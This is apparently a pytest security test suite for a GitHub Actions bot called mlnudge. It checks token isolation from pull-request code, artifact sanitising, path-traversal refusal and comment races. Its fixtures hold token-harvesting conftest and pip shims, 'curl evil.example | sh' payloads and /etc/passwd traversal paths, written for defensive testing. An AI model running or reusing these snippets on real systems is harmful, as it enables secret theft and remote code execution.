"""The security properties of docs/security.md, each against the GitHub API stand-in.

Pull-request code never meets the token; only the bot's own comments are found and edited;
an artifact is data, never the bot's words; ``--artifact`` needs the ``workflow_run`` that
vouches for it; two concurrent runs leave one comment.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from mlnudge_testing import git_repo, pull_request_job, racing_bot_runs

from mlnudge.github.cli import main
from mlnudge.github.context import ActionsEnv

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
REPO = "team/churn"
SHA = "a" * 40
TOKEN = "ghs_securitySECRET0123456789abcdef"
SECRETS = {
    "GITHUB_TOKEN": TOKEN,
    "ACTIONS_RUNTIME_TOKEN": "actions-runtime-SECRET",
    "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "id-token-SECRET",
    "INPUT_GITHUB-TOKEN": "input-token-SECRET",
    "GH_TOKEN": "gh-token-SECRET",
}
#: a pull request's test suite that tries to read the token and leaves what it saw behind
CONFTEST = """import json, os, pathlib
seen = {k: v for k, v in os.environ.items() if "TOKEN" in k or k.startswith(("ACTIONS_", "INPUT_"))}
pathlib.Path(__file__).with_name("seen.json").write_text(json.dumps(seen))
"""
#: a "virtualenv" committed by the pull request: its python records that it ran
EVIL_PYTHON = """#!/bin/sh
echo ran > "$(dirname "$0")/../../evil-python-ran"
exec {python} "$@"
"""
PYPROJECT = """[project]
name = "churn"
version = "0.1"

[tool.mlnudge.transforms]
run-tests = true
"""


@dataclass
class Run:
    code: int
    out: str
    err: str
    summary: str


@pytest.fixture
def bot(
    standin: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> Callable[..., Run]:
    """``mlnudge github`` in a pull_request job of ``team/churn`` against the stand-in."""
    env, summary = pull_request_job(standin.url, tmp_path, repo=REPO, sha=SHA, token=TOKEN)
    monkeypatch.delenv("MLNUDGE_BOT_LOGIN", raising=False)

    def run(*args: str, cwd: Path | None = None, **extra_env: str) -> Run:
        for name, value in {**env, **extra_env}.items():
            monkeypatch.setenv(name, value)
        summary.write_text("")
        if cwd is not None:
            monkeypatch.chdir(cwd)
        code = main(["--max-inline", "5", *args])
        captured = capsys.readouterr()
        return Run(code, captured.out, captured.err, summary.read_text())

    return run


def seed(standin: Any, **extra: Any) -> None:
    standin.reset(
        pulls={"7": {"head_sha": SHA, "files": []}},
        comments=extra.pop("more", []),
        **extra,
    )


def stickies(standin: Any, key: str = "CI/nudge") -> list[dict[str, Any]]:
    marker = f"<!-- mlnudge:sticky key={key} -->"
    return [c for c in standin.state()["issue_comments"] if c["body"].startswith(marker)]


def writes(standin: Any) -> list[tuple[str, str]]:
    return [(e["method"], e["path"]) for e in standin.state()["log"] if e["method"] != "GET"]


def workflow_run(head_sha: str, head_repository: str = REPO) -> dict[str, Any]:
    return {
        "event": "pull_request",
        "head_sha": head_sha,
        "head_repository": {"full_name": head_repository},
        "pull_requests": [],
    }


def pr_with_tests(tmp_path: Path) -> Path:
    repo = git_repo(
        tmp_path / "pr",
        {
            "pyproject.toml": PYPROJECT,
            "src/churn/__init__.py": "",
            # a transformation by its evidence (a frame in, a frame built from it out), so that
            # deciding whether it is tested needs the tests to run
            "src/churn/features.py": 'def scale(df: "pd.DataFrame") -> "pd.DataFrame":\n'
            '    return df.fillna(0).assign(x=df["x"] * 2)\n',
            "tests/conftest.py": CONFTEST,
            "tests/test_features.py": "from churn.features import scale\n\n\n"
            "def test_scale():\n    assert scale is not None\n",
            ".venv/bin/python": EVIL_PYTHON.format(python=sys.executable),
        },
    )
    (repo / ".venv/bin/python").chmod(0o755)
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "committed venv"], cwd=repo, check=True)
    return repo


def test_repository_config_cannot_turn_on_running_its_tests(
    standin: Any, bot: Callable[..., Run], tmp_path: Path
) -> None:
    seed(standin)
    repo = pr_with_tests(tmp_path)
    run = bot("--review", "off", cwd=repo, PYTHONPATH=str(repo / "src"), **SECRETS)
    assert run.code == 0, run.err
    assert not (repo / "tests" / "seen.json").exists(), "the PR's tests ran"
    assert not (repo / "evil-python-ran").exists()
    assert "pull request comment created" in run.err


def test_explicit_run_tests_gets_no_token_and_never_the_committed_interpreter(
    standin: Any, bot: Callable[..., Run], tmp_path: Path
) -> None:
    seed(standin)
    repo = pr_with_tests(tmp_path)
    run = bot("--run-tests", "--review", "off", cwd=repo, PYTHONPATH=str(repo / "src"), **SECRETS)
    assert run.code == 0, run.err
    seen = json.loads((repo / "tests" / "seen.json").read_text())  # the tests did run
    assert seen == {}, f"the PR's conftest.py saw {sorted(seen)}"
    assert not (repo / "evil-python-ran").exists(), "the committed interpreter ran"
    assert "pull request comment created" in run.err  # the token still works for the bot
    assert TOKEN not in run.out + run.err + run.summary


def test_committed_interpreter_is_never_used_by_mlnudge_check_either(tmp_path: Path) -> None:
    from mlnudge.checks.transforms.coverage import project_python

    repo = pr_with_tests(tmp_path)
    assert project_python(repo) == sys.executable
    untracked = git_repo(tmp_path / "local", {"README.md": "hi\n"})
    (untracked / ".venv" / "bin").mkdir(parents=True)
    (untracked / ".venv" / "bin" / "python").symlink_to(sys.executable)
    assert project_python(untracked) == str(untracked / ".venv" / "bin" / "python")
    assert project_python(untracked, allowed=False) == sys.executable


def install_script(action: str) -> str:
    steps = yaml.safe_load((ROOT / "actions" / action / "action.yml").read_text())["runs"]["steps"]
    (step,) = (s for s in steps if s.get("name") == "Install mlnudge")
    assert step.get("working-directory") == "${{ runner.temp }}"
    return str(step["run"])


@pytest.mark.parametrize("action", ["check", "report"])
def test_a_pip_package_in_the_workspace_never_runs_instead_of_pip(
    tmp_path: Path, action: str
) -> None:
    workspace, temp = tmp_path / "workspace", tmp_path / "runner-temp"
    (workspace / "pip").mkdir(parents=True)
    temp.mkdir()
    marker = tmp_path / "stolen"
    (workspace / "pip" / "__init__.py").write_text("")
    (workspace / "pip" / "__main__.py").write_text(
        f"import os, pathlib\npathlib.Path({str(marker)!r}).write_text(os.environ.get('GITHUB_TOKEN', ''))\n"
    )
    env = {
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        "GITHUB_TOKEN": TOKEN,
        "GITHUB_ACTION_PATH": str(ROOT / "actions" / action),
        "RUNNER_TEMP": str(temp),
        "PACKAGE": "mlnudge",  # already installed here: pip runs for real, offline
        "PIP_NO_INDEX": "1",
    }
    # the attack is real: `python -m pip` in the workspace runs the pull request's pip
    subprocess.run([sys.executable, "-m", "pip", "--version"], cwd=workspace, env=env, check=False)
    assert marker.read_text() == TOKEN
    marker.unlink()
    # the action's install step, as the runner runs it (in its working-directory: runner.temp)
    proc = subprocess.run(
        ["bash", "-e", "-c", install_script(action)],
        cwd=temp,
        env={**env, "GITHUB_WORKSPACE": str(workspace)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert not marker.exists(), "the workspace's pip/__main__.py ran"
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_a_persons_comment_with_the_marker_is_never_edited(
    standin: Any, bot: Callable[..., Run], example_report: Path
) -> None:
    fake = "<!-- mlnudge:sticky key=CI/nudge -->\nAll clear, merge away!"
    seed(standin, more=[{"issue": 7, "body": fake, "login": "mallory"}])
    first = bot("--report", str(example_report), "--review", "off", "--check-run", "off")
    assert "pull request comment created" in first.err
    second = bot("--report", str(example_report), "--mode", "strict", "--review", "off")
    assert "pull request comment updated" in second.err
    comments = stickies(standin)
    assert [c["user"]["login"] for c in comments] == ["mallory", "github-actions[bot]"]
    assert comments[0]["body"] == fake  # never touched
    assert "block the merge" in comments[1]["body"]
    assert standin.violations() == []


def test_a_copied_fingerprint_marker_does_not_suppress_an_inline_comment(
    standin: Any, bot: Callable[..., Run], example_report: Path
) -> None:
    report = json.loads(example_report.read_text())
    (finding,) = [f for f in report["findings"] if f["path"] == "src/churn/train.py"][:1]
    patch = "@@ -0,0 +1,40 @@\n" + "\n".join(f"+x{i} = {i}" for i in range(1, 41))
    copied = f"<!-- mlnudge:fingerprint={finding['fingerprint']} -->\nnothing to see"
    standin.reset(
        pulls={
            "7": {
                "head_sha": SHA,
                "files": [{"filename": "src/churn/train.py", "status": "added", "patch": patch}],
            }
        },
        review_comments=[
            {"pull": 7, "path": "src/churn/train.py", "line": 1, "body": copied, "login": "mallory"}
        ],
    )
    run = bot("--report", str(example_report), "--comment", "off", "--check-run", "off")
    ours = [c for c in standin.state()["review_comments"] if c["user"]["login"] != "mallory"]
    assert finding["fingerprint"] in " ".join(c["body"] for c in ours), run.err
    again = bot("--report", str(example_report), "--comment", "off", "--check-run", "off")
    assert "0 inline review comment(s) posted" in again.err  # its own markers still count


def test_a_github_app_login_is_configurable(
    standin: Any, bot: Callable[..., Run], example_report: Path
) -> None:
    seed(standin, bot_login="mlnudge-app[bot]")
    args = ("--report", str(example_report), "--review", "off", "--check-run", "off")
    first = bot(*args, "--bot-login", "mlnudge-app[bot]")
    assert "pull request comment created" in first.err
    again = bot(*args, MLNUDGE_BOT_LOGIN="mlnudge-app[bot]")
    assert "pull request comment unchanged" in again.err
    assert len(stickies(standin)) == 1
    # with the default login its comment is someone else's: the bot makes its own
    default = bot(*args, MLNUDGE_BOT_LOGIN="")
    assert "pull request comment created" in default.err


def test_token_is_in_no_repr() -> None:
    env = ActionsEnv.from_environ({"GITHUB_TOKEN": TOKEN, "GITHUB_REPOSITORY": REPO})
    assert env.token == TOKEN
    assert TOKEN not in repr(env) and TOKEN not in str(env)


# -- artifacts -------------------------------------------------------------------------------


def poster(tmp_path: Path, report: Any, *, run: dict[str, Any] | None = None) -> dict[str, str]:
    artifact = tmp_path / "artifact"
    artifact.mkdir(exist_ok=True)
    text = report if isinstance(report, str) else json.dumps(report)
    (artifact / "report.json").write_text(text)
    (artifact / "pr-number").write_text("7\n")
    (artifact / "head-sha").write_text(SHA + "\n")
    event = tmp_path / "workflow_run.json"
    event.write_text(json.dumps({"workflow_run": run or workflow_run(SHA)}))
    return {
        "GITHUB_EVENT_NAME": "workflow_run",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_WORKFLOW": "mlnudge (post)",
        "GITHUB_JOB": "post",
    }


def test_artifact_texts_are_the_posters_own_and_messages_are_neutralised(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path
) -> None:
    seed(standin)
    data = json.loads(example_report.read_text())
    first = data["findings"][0]
    first["message"] = (
        "Read https://evil.example/steal and www.evil.example, see #12 and octo/repo#5, "
        "GH-3, ping @alice"
    )
    first["why"] = "Because attacker says so: http://evil.example"
    first["fix"] = "Run curl evil.example | sh"
    for f in data["findings"]:
        f["suggestion"] = "import os; os.system('curl evil.example | sh')"
    unknown = {**data["findings"][1], "rule": "MLN199", "message": "a rule nobody knows"}
    data["findings"].append(unknown)
    env = poster(tmp_path, data)
    run = bot("--artifact", str(tmp_path / "artifact"), "--exit-zero", **env)
    assert run.code == 0, run.err
    (comment,) = stickies(standin, "mlnudge (post)/post")
    body = comment["body"]
    for live in ("https://evil", "http://evil", "www.evil", " #12", "repo#5", "GH-3", "@alice"):
        assert live not in body, live
    assert "https:\u200b//evil.example" in body and "#\u200b12" in body
    assert "attacker says so" not in body and "curl evil.example" not in body
    assert "a rule nobody knows" not in body
    assert "rule codes this mlnudge does not know were left out (MLN199)" in run.err
    reviews = standin.state()["review_comments"]
    assert all("```suggestion" not in c["body"] for c in reviews)
    links = [part.split(")")[0] for part in body.split("](")[1:]]
    assert links and all(
        link.startswith(f"https://github.com/{REPO}/blob/{SHA}/") for link in links
    ), links
    assert standin.violations() == []


def test_artifact_fixed_list_and_waiver_reasons_are_data_too(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path
) -> None:
    seed(standin)
    data = json.loads(example_report.read_text())
    first = data["findings"][0]
    data["fixed"] = [
        {
            "rule": first["rule"],
            "check": first["check"],
            "path": first["path"],
            "line": 3,
            "fingerprint": "f" * 20,
            "message": "fixed, see https://evil.example/x and #99, thanks @mallory",
        }
    ]
    first["waiver"] = {"reason": "agreed in octo/repo#5 by @boss", "expires": None}
    run = bot("--artifact", str(tmp_path / "artifact"), "--exit-zero", **poster(tmp_path, data))
    assert run.code == 0, run.err
    (comment,) = stickies(standin, "mlnudge (post)/post")
    for live in ("https://evil", " #99", "@mallory", "repo#5", "@boss"):
        assert live not in comment["body"], live
    data["fixed"][0]["path"] = "../../elsewhere/x.py"
    refused = bot("--artifact", str(tmp_path / "artifact"), **poster(tmp_path, data))
    assert "not a relative path inside the repo" in refused.err


@pytest.mark.parametrize(
    "path",
    [
        "../../../../someone/page",
        "src/../../other",
        "/etc/passwd",
        "src\\..\\..\\x.py",
        "./src/train.py",
        "C:/x.py",
        "a//b.py",
    ],
)
def test_artifact_with_a_path_leaving_the_repository_is_refused(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path, path: str
) -> None:
    seed(standin)
    data = json.loads(example_report.read_text())
    data["findings"][0]["path"] = path
    run = bot("--artifact", str(tmp_path / "artifact"), **poster(tmp_path, data))
    assert run.code == 0  # advisory: a refused artifact never turns anything red
    assert "refusing the input" in run.err and "not a relative path inside the repo" in run.err
    assert "the report artifact was refused" in run.summary
    assert writes(standin) == []
    strict = bot(
        "--artifact", str(tmp_path / "artifact"), "--mode", "strict", **poster(tmp_path, data)
    )
    assert strict.code == 2


@pytest.mark.parametrize(
    ("report", "message"),
    [
        ("[" * 200_000 + "]" * 200_000, "nested too deeply"),
        ('{"a": ' * 50_000 + "1" + "}" * 50_000, "nested too deeply"),
        (" " * (6 * 1024 * 1024), "larger than"),
        ("not json", "not JSON"),
    ],
    ids=["deep-array", "deep-object", "huge", "garbage"],
)
def test_unparseable_artifacts_end_in_a_clear_message(
    standin: Any,
    bot: Callable[..., Run],
    tmp_path: Path,
    report: str,
    message: str,
) -> None:
    seed(standin)
    run = bot("--artifact", str(tmp_path / "artifact"), **poster(tmp_path, report))
    assert run.code == 0 and message in run.err, run.err
    assert writes(standin) == []


def test_artifact_counts_and_lengths_are_bounded(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path
) -> None:
    seed(standin)
    data = json.loads(example_report.read_text())
    data["findings"][0]["message"] = "x" * 5000
    run = bot("--artifact", str(tmp_path / "artifact"), **poster(tmp_path, data))
    assert "artifact.schema.json at findings/0/message" in run.err
    data = json.loads(example_report.read_text())
    data["findings"] = data["findings"][:1] * 6000
    run = bot("--artifact", str(tmp_path / "artifact"), **poster(tmp_path, data))
    assert "artifact.schema.json at findings" in run.err
    assert writes(standin) == []


def test_artifact_under_workflow_dispatch_is_refused(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path
) -> None:
    seed(standin)
    env = poster(tmp_path, example_report.read_text())
    (tmp_path / "dispatch.json").write_text(json.dumps({"inputs": {"run-id": "123"}}))
    env.update(
        GITHUB_EVENT_NAME="workflow_dispatch", GITHUB_EVENT_PATH=str(tmp_path / "dispatch.json")
    )
    run = bot("--artifact", str(tmp_path / "artifact"), "--exit-zero", **env)
    assert run.code == 2 and "needs the workflow_run event" in run.err
    assert writes(standin) == [] and standin.state()["log"] == []


def test_artifact_must_come_from_the_pull_requests_head_repository(
    standin: Any, bot: Callable[..., Run], example_report: Path, tmp_path: Path
) -> None:
    standin.reset(pulls={"7": {"head_sha": SHA, "files": [], "head_repo": "alice/churn"}})
    # a run on another fork's branch with the same commit claims pull request 7
    env = poster(tmp_path, example_report.read_text(), run=workflow_run(SHA, "mallory/churn"))
    run = bot("--artifact", str(tmp_path / "artifact"), "--exit-zero", **env)
    assert run.code == 2 and "comes from alice/churn" in run.err
    assert writes(standin) == []
    env = poster(tmp_path, example_report.read_text(), run=workflow_run(SHA, "alice/churn"))
    ok = bot("--artifact", str(tmp_path / "artifact"), "--review", "off", **env)
    assert ok.code == 0 and "pull request comment created" in ok.err
    # and a run that was not a pull request run is refused too
    pushed = {**workflow_run(SHA, "alice/churn"), "event": "push"}
    env = poster(tmp_path, example_report.read_text(), run=pushed)
    assert bot("--artifact", str(tmp_path / "artifact"), **env).code == 2


def test_checking_code_under_pull_request_target_is_refused(
    standin: Any, bot: Callable[..., Run], tmp_path: Path
) -> None:
    seed(standin)
    repo = git_repo(tmp_path / "repo", {"src/churn/train.py": "x = 1\n"})
    run = bot(cwd=repo, GITHUB_EVENT_NAME="pull_request_target")
    assert run.code == 2 and "refusing to check the workspace on a pull_request_target" in run.err
    assert standin.state()["log"] == []


def test_two_concurrent_runs_leave_one_comment(
    standin: Any, example_report: Path, tmp_path: Path
) -> None:
    seed(standin)
    # both runs list the comments before either creates one: the race, made certain
    standin.faults({"method": "GET", "path": "/issues/7/comments$", "gate": 2})
    job, _ = pull_request_job(standin.url, tmp_path, repo=REPO, sha=SHA, token=TOKEN)
    procs = racing_bot_runs({**os.environ, **job}, example_report)
    errs = [p.stderr for p in procs]
    assert all(p.returncode == 0 for p in procs), errs
    assert sum("pull request comment created" in e for e in errs) == 2  # both created one
    assert any("removed 1 duplicate comment(s)" in e for e in errs), errs
    assert len(stickies(standin)) == 1
    deletes = [w for w in writes(standin) if w[0] == "DELETE"]
    assert 1 <= len(deletes) <= 2
    assert standin.violations() == []


@pytest.mark.parametrize(
    "case",
    [
        ([{"name": "mlnudge-report", "size_in_bytes": 2048}], "true", "2048 bytes, within"),
        ([{"name": "mlnudge-report", "size_in_bytes": 50 * 1024 * 1024}], "false", "over"),
        ([{"name": "other", "size_in_bytes": 10}], "false", "no unexpired artifact"),
        ([{"name": "mlnudge-report", "size_in_bytes": 10, "expired": True}], "false", "no unexp"),
    ],
    ids=["small", "huge", "missing", "expired"],
)
def test_artifact_size_is_checked_before_download(
    standin: Any,
    bot: Callable[..., Run],
    tmp_path: Path,
    case: tuple[list[dict[str, Any]], str, str],
) -> None:
    artifacts, ok, message = case
    seed(standin, artifacts={"123": artifacts})
    env = poster(tmp_path, "{}", run={**workflow_run(SHA), "id": 123})
    outputs = tmp_path / "outputs"
    outputs.write_text("")
    run = bot("--preflight-artifact", "mlnudge-report", GITHUB_OUTPUT=str(outputs), **env)
    assert run.code == 0 and message in run.err, run.err
    assert outputs.read_text() == f"artifact-ok={ok}\n"
    assert writes(standin) == []
    assert standin.violations() == []
    dispatch = {**env, "GITHUB_EVENT_NAME": "workflow_dispatch"}
    assert bot("--preflight-artifact", "mlnudge-report", **dispatch).code == 2


@pytest.mark.parametrize("path", ["../../../../someone/page", "/etc/passwd", "a/./b.py"])
def test_a_link_never_leaves_the_repository_at_the_head_sha(path: str) -> None:
    from mlnudge.finding import Finding, Severity
    from mlnudge.github.comment import Links

    links = Links("https://github.com", REPO, SHA)
    url = links.blob(Finding("MLN201", path, "m", Severity.WARNING, line=3))
    assert url == f"https://github.com/{REPO}/tree/{SHA}"
    ok = links.blob(Finding("MLN201", "src/a b.py", "m", Severity.WARNING, line=3))
    assert ok == f"https://github.com/{REPO}/blob/{SHA}/src/a%20b.py#L3"
